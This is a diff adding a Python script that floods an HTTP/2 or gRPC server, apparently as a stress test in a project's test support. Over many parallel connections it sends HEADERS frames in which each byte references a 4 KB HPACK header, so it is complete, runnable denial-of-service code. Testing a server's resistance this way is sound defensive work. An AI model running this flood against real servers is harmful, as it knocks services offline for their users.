@@ -1,0 +1,92 @@
+"""Calls whose headers refer to each other (HPACK): a byte stands for 4 KB that was sent once.
+
+As a program, in a process of its own: `header_bombs.py HOST:PORT CONNECTIONS SECONDS READS [CA]`. With CA (a file, PEM)
+they come over TLS. Prints how many headers were sent, and how often the server closed a connection.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import select
+import socket
+import ssl
+import sys
+import threading
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+
+from support.raw_grpc import PUSH, frame, headers, literal, preface
+
+FRAME_BYTES = 16_384
+_HEADERS, _END_HEADERS = 1, 4
+_REMEMBERED = b"\x40" + literal("x") + literal("v" * 4_000)
+_IT = b"\xbe"
+_PAUSE = 0.02  # between two connections of one thread
+
+
+class Bombs:
+    """What the threads of one attack count."""
+
+    def __init__(self, address: str, seconds: float, reads: bool, tls: ssl.SSLContext | None = None) -> None:
+        """`reads`: whether answers are read."""
+        host, _, port = address.rpartition(":")
+        self._target = host, int(port)
+        self._until = time.monotonic() + seconds
+        self._reads = reads
+        self._tls = tls
+        self.sent = self.closed = 0
+
+    def run(self, connections: int) -> None:
+        """Send from so many connections at a time until the time is over."""
+        threads = [threading.Thread(target=self._work) for _ in range(connections)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
+    def _work(self) -> None:
+        while time.monotonic() < self._until:
+            with contextlib.suppress(OSError):
+                self._attack()
+            self.closed += time.monotonic() < self._until
+            time.sleep(_PAUSE)
+
+    def _attack(self) -> None:
+        with contextlib.ExitStack() as closing:
+            sock = closing.enter_context(socket.create_connection(self._target, 10))
+            if self._tls is not None:
+                sock = closing.enter_context(self._tls.wrap_socket(sock, server_hostname=self._target[0]))
+            sock.setblocking(False)
+            self._send(sock, preface())
+            stream, remembered = 1, _REMEMBERED
+            while time.monotonic() < self._until:
+                block = headers(PUSH) + remembered
+                block += _IT * (FRAME_BYTES - len(block))
+                self._send(sock, frame(_HEADERS, _END_HEADERS, stream, block))
+                stream, remembered = stream + 2, b""
+                self.sent += 1
+
+    def _send(self, sock: socket.socket, data: bytes) -> None:
+        rest = memoryview(data)
+        while rest and time.monotonic() < self._until:
+            select.select([sock] if self._reads else [], [sock], [], 0.1)
+            with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
+                rest = rest[sock.send(rest) :]
+            if self._reads:
+                with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
+                    if not sock.recv(2**16):
+                        raise ConnectionResetError
+
+
+if __name__ == "__main__":
+    os.nice(10)  # it stands for other machines, and is not to take this one's processors from honest clients
+    target, many, lasting, reading, *ca = sys.argv[1:]
+    context = ssl.create_default_context(cafile=ca[0]) if ca else None
+    if context is not None:
+        context.set_alpn_protocols(["h2"])
+    bombs = Bombs(target, float(lasting), reading == "reads", context)
+    bombs.run(int(many))
+    print(bombs.sent, bombs.closed, flush=True)
